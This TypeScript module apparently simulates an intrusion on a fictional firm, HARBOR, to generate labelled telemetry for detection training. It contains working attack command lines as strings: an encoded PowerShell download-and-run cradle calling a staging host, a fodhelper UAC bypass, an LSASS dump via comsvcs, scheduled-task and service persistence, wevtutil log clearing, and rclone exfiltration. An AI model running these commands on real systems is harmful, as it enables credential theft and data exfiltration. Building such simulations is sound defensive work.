// The intrusion on HARBOR's own machines: from the opened invoice to the archive that leaves. What it leaves in the cloud is in
// cloud.ts. Every stage is told to the truth book with the events that show it.

import { FINANCE_FILES } from './daily.js';
import type { Logged, Machine, Process, Session } from './machine.js';
import { HOUR, at, type Random } from './random.js';
import { SECURITY } from './providers.js';
import type { TruthBook } from './truth.js';
import { HOSTS, IMPLANT, INTRUDER, LURE, PEOPLE, PROGRAMS, fqdn } from './world.js';

export const BEACON_END = at(14, '05:30');
const LURE_PATH = `C:\\Users\\fin.clerk\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2L9XB\\${LURE.name}`;
const DOWNLOAD = `$u='https://${INTRUDER.staging.name}/cfg.bin';$p='${IMPLANT.path}';(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process rundll32.exe -ArgumentList "$p,Start" -WindowStyle Hidden`;
/** What -EncodedCommand carries: UTF-16LE in Base64. */
export const encodedCommand = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
export const MACRO_COMMAND = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ${encodedCommand(DOWNLOAD)}`;
export const IMPLANT_COMMAND = `"C:\\Windows\\System32\\rundll32.exe" ${IMPLANT.path},Start`;

export interface Intrusion {
  readonly word: Process;
  readonly shell: Process;
  readonly implant: Process;
  readonly elevated: Process;
  readonly dumper: Process;
  /** Times of the beacons of each machine. */
  readonly beacons: { readonly clerk: readonly number[]; readonly files: readonly number[] };
}

export function intrude(
  machines: { readonly clerk: Machine; readonly lead: Machine; readonly files: Machine; readonly dc: Machine },
  random: Random,
  truth: TruthBook,
): Intrusion {
  const { clerk, files } = machines;
  const opened = openInvoice(clerk, truth);
  const clerkBeacons = beacon(
    clerk,
    opened.implant,
    INTRUDER.beacon,
    opened.started + 9_000,
    random,
    truth,
    'beacon',
    'Command and control from the clerk’s workstation',
  );
  discover(clerk, opened.implant, truth);
  const { elevated, dumper } = stealCredentials(clerk, opened.implant, opened.session, truth);
  const foothold = moveToFileServer(machines, elevated, truth);
  const fileBeacons = beacon(
    files,
    foothold,
    INTRUDER.secondBeacon,
    at(13, '02:16:31'),
    random,
    truth,
    'beacon-server',
    'Command and control from the file server',
  );
  clearLog(files, foothold, truth);
  collectAndUpload(files, foothold, random, truth);
  return {
    word: opened.word,
    shell: opened.shell,
    implant: opened.implant,
    elevated,
    dumper,
    beacons: { clerk: clerkBeacons, files: fileBeacons },
  };
}

function openInvoice(clerk: Machine, truth: TruthBook) {
  const time = at(12, '09:12:38.214');
  const stage = truth.stage({
    id: 'execution', title: 'The clerk opens the invoice; its macro starts PowerShell, which fetches and runs a DLL', tactic: 'Execution',
    techniques: ['T1204.002', 'T1059.001', 'T1027', 'T1105', 'T1218.011'], start: time, end: at(12, '09:13:29'), host: HOSTS.clerk.name, account: PEOPLE.finClerk.upn,
    entities: [LURE.name, IMPLANT.path, INTRUDER.staging.name, INTRUDER.staging.ip],
  }); // prettier-ignore
  const session = clerk.session(PEOPLE.finClerk, 2, 1);
  const explorer = clerk.resident(PROGRAMS.explorer, 'C:\\Windows\\Explorer.EXE', session);
  const outlook = clerk.start(at(12, '09:02:11'), PROGRAMS.outlook, `"${PROGRAMS.outlook.path}" /recycle`, explorer).process;
  stage.logged('the attachment is written to the mail cache', clerk.file(time, outlook, LURE_PATH));
  const word = clerk.start(time + 1_100, PROGRAMS.word, `"${PROGRAMS.word.path}" /n "${LURE_PATH}" /o ""`, outlook);
  stage.logged('Word opens the attachment', word.events);
  const shell = clerk.start(at(12, '09:13:05.482'), PROGRAMS.powershell, MACRO_COMMAND, word.process);
  stage.logged('Word starts PowerShell with an encoded command', shell.events);
  clerk.run(
    shell.process.time + 30,
    16_000,
    PROGRAMS.conhost,
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    shell.process,
  );
  stage.logged('the decoded script', clerk.script(shell.process.time + 900, shell.process, DOWNLOAD, { suspicious: true }));
  stage.logged(
    'PowerShell looks up the staging server',
    clerk.dns(shell.process.time + 1_300, shell.process, INTRUDER.staging.name, INTRUDER.staging.ip),
  );
  stage.logged(
    'PowerShell connects to the staging server',
    clerk.connect(shell.process.time + 1_420, shell.process, { ...INTRUDER.staging, port: 443 }),
  );
  stage.logged('the DLL is written', clerk.file(shell.process.time + 4_050, shell.process, IMPLANT.path));
  const implant = clerk.start(at(12, '09:13:20.907'), PROGRAMS.rundll32, IMPLANT_COMMAND, shell.process);
  stage.logged('rundll32 runs the DLL', implant.events);
  stage.logged('the unsigned DLL is loaded', clerk.load(implant.process.time + 210, implant.process, IMPLANT));
  clerk.end(implant.process.time + 900, shell.process);
  const persistence = truth.stage({
    id: 'run-key', title: 'The DLL registers itself to start with the session', tactic: 'Persistence', techniques: ['T1547.001'], start: implant.process.time + 2_000, end: implant.process.time + 2_000,
    host: HOSTS.clerk.name, account: PEOPLE.finClerk.upn, entities: ['CfgUpdate'],
  }); // prettier-ignore
  persistence.logged(
    'Run key',
    clerk.registryValue(
      implant.process.time + 2_000,
      implant.process,
      `HKU\\${PEOPLE.finClerk.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\CfgUpdate`,
      `rundll32.exe ${IMPLANT.path},Start`,
    ),
  );
  return { word: word.process, shell: shell.process, implant: implant.process, session, started: implant.process.time };
}

/** Every sixty seconds, give or take four. */
function beacon(
  machine: Machine,
  process: Process,
  to: { readonly name: string; readonly ip: string },
  from: number,
  random: Random,
  truth: TruthBook,
  id: string,
  title: string,
): number[] {
  const stage = truth.stage({
    id,
    title,
    tactic: 'Command and Control',
    techniques: ['T1071.001', 'T1573'],
    start: from,
    end: BEACON_END,
    host: machine.facts.name,
    account: process.session.account.name,
    entities: [to.name, to.ip],
  });
  const times: number[] = [];
  for (let time = from; time < BEACON_END; time += 60_000 + random.between(-4_000, 4_000)) {
    if (times.length % 30 === 0) machine.dns(time - 40, process, to.name, to.ip);
    const logged = machine.connect(time, process, { ...to, port: 443 });
    if (times.length < 3) stage.logged('beacon', logged);
    times.push(time);
  }
  return times;
}

function discover(clerk: Machine, implant: Process, truth: TruthBook): void {
  const start = at(12, '10:02:14');
  const stage = truth.stage({
    id: 'discovery',
    title: 'The intruder looks around',
    tactic: 'Discovery',
    techniques: ['T1033', 'T1069.002', 'T1018', 'T1016'],
    start,
    end: start + 95_000,
    host: HOSTS.clerk.name,
    account: PEOPLE.finClerk.upn,
    entities: [],
  });
  const commands = [
    [PROGRAMS.whoami, 'whoami  /all'], [PROGRAMS.net, 'net  group "Domain Admins" /domain'], [PROGRAMS.nltest, 'nltest  /dclist:harbor.example'],
    [PROGRAMS.ipconfig, 'ipconfig  /all'], [PROGRAMS.quser, 'quser  /server:SRV-FILE02'],
  ] as const; // prettier-ignore
  commands.forEach(([program, line], i) => {
    const time = start + i * 19_000;
    const shell = clerk.run(time, 2_400, PROGRAMS.cmd, `C:\\Windows\\system32\\cmd.exe /c ${line.replace('  ', ' ')}`, implant);
    stage.logged(line.replace('  ', ' '), [...shell.events, ...clerk.run(time + 60, 1_800, program, line, shell.process).events]);
  });
}

function stealCredentials(clerk: Machine, implant: Process, session: Session, truth: TruthBook): { elevated: Process; dumper: Process } {
  const bypass = at(12, '13:44:02.118');
  const elevation = truth.stage({
    id: 'elevation',
    title: 'fodhelper runs the DLL again, elevated',
    tactic: 'Privilege Escalation',
    techniques: ['T1548.002'],
    start: bypass,
    end: bypass + 4_000,
    host: HOSTS.clerk.name,
    account: PEOPLE.finClerk.upn,
    entities: [IMPLANT.path],
  });
  elevation.logged(
    'the command fodhelper will run',
    clerk.registryValue(
      bypass,
      implant,
      `HKU\\${PEOPLE.finClerk.sid}_Classes\\ms-settings\\Shell\\Open\\command\\(Default)`,
      `rundll32.exe ${IMPLANT.path},Start`,
    ),
  );
  const helper = clerk.run(bypass + 1_200, 2_500, PROGRAMS.fodhelper, '"C:\\Windows\\system32\\fodhelper.exe"', implant, {
    session: { ...session, elevated: true },
    integrity: 'High',
  });
  const elevated = clerk.start(bypass + 1_900, PROGRAMS.rundll32, IMPLANT_COMMAND, helper.process, { integrity: 'High' });
  elevation.logged('the DLL runs elevated', [...helper.events, ...elevated.events]);
  elevation.logged(
    'the traces are removed',
    clerk.registryKey(bypass + 4_000, implant, 'DeleteKey', `HKU\\${PEOPLE.finClerk.sid}_Classes\\ms-settings\\Shell\\Open\\command`),
  );

  const time = at(12, '13:47:52.660');
  const stage = truth.stage({
    id: 'credentials',
    title: 'The memory of LSASS is read and dumped; svc_backup’s password is in it',
    tactic: 'Credential Access',
    techniques: ['T1003.001'],
    start: time,
    end: time + 8_000,
    host: HOSTS.clerk.name,
    account: PEOPLE.finClerk.upn,
    entities: ['lsass.exe', 'C:\\ProgramData\\st.dmp', PEOPLE.backup.name],
  });
  const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d664|C:\\Windows\\System32\\KERNELBASE.dll+32ea6|UNKNOWN(00007FF8A1C30B21)';
  stage.logged('the DLL opens LSASS', clerk.access(time, elevated.process, clerk.lsass, 0x1010, trace));
  const dumper = clerk.run(
    time + 2_100,
    5_300,
    PROGRAMS.rundll32,
    `"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${clerk.lsass.pid} C:\\ProgramData\\st.dmp full`,
    elevated.process,
  );
  stage.logged('comsvcs writes the dump', dumper.events);
  stage.logged(
    'LSASS is opened with all rights',
    clerk.access(
      time + 2_600,
      dumper.process,
      clerk.lsass,
      0x1f_ffff,
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d664|C:\\Windows\\System32\\KERNELBASE.dll+32ea6|C:\\Windows\\System32\\dbgcore.DLL+6d52|C:\\Windows\\System32\\comsvcs.dll+2fa3f',
    ),
  );
  stage.logged('the dump file', clerk.file(time + 3_100, dumper.process, 'C:\\ProgramData\\st.dmp'));
  return { elevated: elevated.process, dumper: dumper.process };
}

const TASK_NAME = '\\Microsoft\\Windows\\CfgSync\\Sync';
const TASK_XML = `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n    <Author>HARBOR\\svc_backup</Author>\r\n    <URI>${TASK_NAME}</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>PT4H</Interval>\r\n      </Repetition>\r\n      <StartBoundary>2026-03-13T02:20:00</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>rundll32.exe</Command>\r\n      <Arguments>${IMPLANT.path},Start</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>`;

function moveToFileServer(
  { clerk, lead, files, dc }: { readonly clerk: Machine; readonly lead: Machine; readonly files: Machine; readonly dc: Machine },
  elevated: Process,
  truth: TruthBook,
): Process {
  const time = at(13, '02:14:07.355');
  const from = { ip: HOSTS.clerk.ip, workstation: HOSTS.clerk.name };
  const stage = truth.stage({
    id: 'lateral', title: 'svc_backup logs on to the file server from the clerk’s workstation and installs a service and a task', tactic: 'Lateral Movement',
    techniques: ['T1078.002', 'T1021.002', 'T1569.002', 'T1543.003', 'T1053.005'], start: at(13, '02:09:40'), end: at(13, '02:19:02'), host: HOSTS.files.name, account: `HARBOR\\${PEOPLE.backup.name}`,
    entities: [HOSTS.clerk.name, HOSTS.clerk.ip, 'CfgSync', TASK_NAME, IMPLANT.path],
  }); // prettier-ignore
  for (let i = 0; i < 4; i++)
    stage.logged(
      'svc_backup may not log on to WKS-0117',
      lead.failedLogon(at(13, '02:09:40') + i * 6_100, PEOPLE.backup, 3, from, 0xc000_015b),
    );
  stage.logged('the domain controller checks the password', [
    dc.credentialCheck(time - 90, PEOPLE.backup, HOSTS.clerk.name),
    dc.ticketGranting(time - 60, PEOPLE.backup, HOSTS.clerk.ip),
  ]);
  stage.logged(
    'the intruder uses svc_backup’s credentials',
    clerk.explicitLogon(time - 100, elevated.session, PEOPLE.backup, fqdn(HOSTS.files), elevated),
  );
  stage.logged(
    'the connection to the file server',
    clerk.connect(time - 30, elevated, { ip: HOSTS.files.ip, port: 445, name: fqdn(HOSTS.files) }),
  );
  const { session, events } = files.logon(time, { account: PEOPLE.backup, type: 3, ...from, ntlm: true, privileged: true });
  stage.logged('svc_backup logs on over the network', events);
  stage.logged('the administrative share', files.share(time + 300, session, from.ip, '\\\\*\\C$', '\\??\\C:\\'));
  stage.logged('the DLL is copied', files.shareFile(time + 900, session, from.ip, '\\\\*\\C$', '\\??\\C:\\', 'ProgramData\\cfg.dll', true));
  const kernel = files.resident({ ...PROGRAMS.services, path: 'System' }, 'System');
  stage.logged('the DLL arrives', files.file(time + 1_050, kernel, IMPLANT.path));
  const path = `%COMSPEC% /Q /c start /b rundll32.exe ${IMPLANT.path},Start`;
  stage.logged('the service is installed', files.installService(time + 2_400, 'CfgSync', path, session));
  const shell = files.run(time + 3_000, 800, PROGRAMS.cmd, path.replace('%COMSPEC%', 'C:\\Windows\\system32\\cmd.exe'), files.services);
  const foothold = files.start(time + 3_400, PROGRAMS.rundll32, `rundll32.exe  ${IMPLANT.path},Start`, shell.process);
  stage.logged('the service runs the DLL as SYSTEM', [...shell.events, ...foothold.events]);
  stage.logged('the unsigned DLL is loaded', files.load(time + 3_650, foothold.process, IMPLANT));
  const registered = at(13, '02:18:45.020');
  const tool = files.run(
    registered - 400,
    900,
    PROGRAMS.schtasks,
    `schtasks.exe /create /tn "${TASK_NAME}" /tr "rundll32.exe ${IMPLANT.path},Start" /sc hourly /mo 4 /ru SYSTEM /f`,
    foothold.process,
  );
  stage.logged('the task is created', [...tool.events, ...files.registerTask(registered, TASK_NAME, TASK_XML, files.system)]);
  for (let run = at(13, '02:20:00'); run < BEACON_END; run += 4 * HOUR) {
    const { process } = files.run(
      run,
      3_000,
      PROGRAMS.rundll32,
      `rundll32.exe ${IMPLANT.path},Start`,
      files.resident(PROGRAMS.svchost, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'),
    );
    files.taskEvents(run - 20, TASK_NAME, 'rundll32.exe', 'NT AUTHORITY\\SYSTEM', 3_000, process.pid);
  }
  files.logoff(at(13, '02:21:44'), session);
  return foothold.process;
}

export const CLEARED_AT = at(13, '02:51:09.402');
function clearLog(files: Machine, foothold: Process, truth: TruthBook): void {
  const stage = truth.stage({
    id: 'log-cleared',
    title: 'The Security log of the file server is cleared',
    tactic: 'Defense Evasion',
    techniques: ['T1070.001'],
    start: CLEARED_AT - 310,
    end: CLEARED_AT,
    host: HOSTS.files.name,
    account: 'NT AUTHORITY\\SYSTEM',
    entities: ['wevtutil.exe', 'Security'],
  });
  stage.logged('wevtutil runs', files.run(CLEARED_AT - 310, 420, PROGRAMS.wevtutil, 'wevtutil.exe  cl Security', foothold).events);
  stage.logged(
    'the first event of the emptied log',
    files.log(SECURITY.cleared, CLEARED_AT, ['S-1-5-18', 'SYSTEM', 'NT AUTHORITY', 0x3e7n], { processId: 1288 }),
  );
}

function collectAndUpload(files: Machine, foothold: Process, random: Random, truth: TruthBook): void {
  const time = at(14, '03:22:10.071');
  const collect = truth.stage({
    id: 'collection',
    title: 'The finance share is packed',
    tactic: 'Collection',
    techniques: ['T1560.001', 'T1039', 'T1074.001'],
    start: time,
    end: time + 7 * 60_000,
    host: HOSTS.files.name,
    account: 'NT AUTHORITY\\SYSTEM',
    entities: ['7z.exe', 'C:\\ProgramData\\arc\\fin.7z', 'D:\\Shares\\Finance'],
  });
  const shell = files.start(time - 900, PROGRAMS.cmd, 'C:\\Windows\\system32\\cmd.exe /Q /c C:\\ProgramData\\arc\\go.cmd', foothold);
  const pack = files.run(
    time,
    7 * 60_000 - 12_000,
    PROGRAMS.sevenZip,
    `"${PROGRAMS.sevenZip.path}" a -t7z -mx1 -mhe=on -v200m -pTide7731 C:\\ProgramData\\arc\\fin.7z D:\\Shares\\Finance\\*`,
    shell.process,
  );
  collect.logged('7-Zip packs the share with a password', [...shell.events, ...pack.events]);
  for (let part = 1; part <= 4; part++)
    collect.logged(
      'a part of the archive',
      files.file(time + part * 90_000 + random.below(5_000), pack.process, `C:\\ProgramData\\arc\\fin.7z.00${part}`),
    );
  for (const relative of FINANCE_FILES)
    files.registryKey(
      time + random.below(400_000),
      pack.process,
      'CreateKey',
      `HKU\\.DEFAULT\\Software\\7-Zip\\Compression\\${relative.split('\\')[0]}`,
    );

  const upload = at(14, '03:31:26.540');
  const leave = truth.stage({
    id: 'exfiltration',
    title: 'The archive is uploaded',
    tactic: 'Exfiltration',
    techniques: ['T1567.002', 'T1048'],
    start: upload,
    end: at(14, '04:19:50'),
    host: HOSTS.files.name,
    account: 'NT AUTHORITY\\SYSTEM',
    entities: ['rclone.exe', INTRUDER.upload.name, INTRUDER.upload.ip],
  });
  leave.logged('the upload tool arrives', files.file(upload - 60_000, foothold, PROGRAMS.uploader.path));
  const rclone = files.run(
    upload,
    at(14, '04:19:50') - upload,
    PROGRAMS.uploader,
    `C:\\ProgramData\\arc\\rclone.exe copy C:\\ProgramData\\arc sync:harbor --include fin.7z.* --transfers 4 --config C:\\ProgramData\\arc\\r.conf`,
    shell.process,
  );
  leave.logged('rclone runs', rclone.events);
  leave.logged('its server is looked up', files.dns(upload + 700, rclone.process, INTRUDER.upload.name, INTRUDER.upload.ip));
  const connections: Logged[] = [];
  for (let time2 = upload + 800; time2 < at(14, '04:19:00'); time2 += random.between(15_000, 70_000))
    connections.push(files.connect(time2, rclone.process, { ...INTRUDER.upload, port: 443 }));
  leave.logged('the first of its connections', connections.slice(0, 3));
  files.end(at(14, '04:20:02'), shell.process);
}
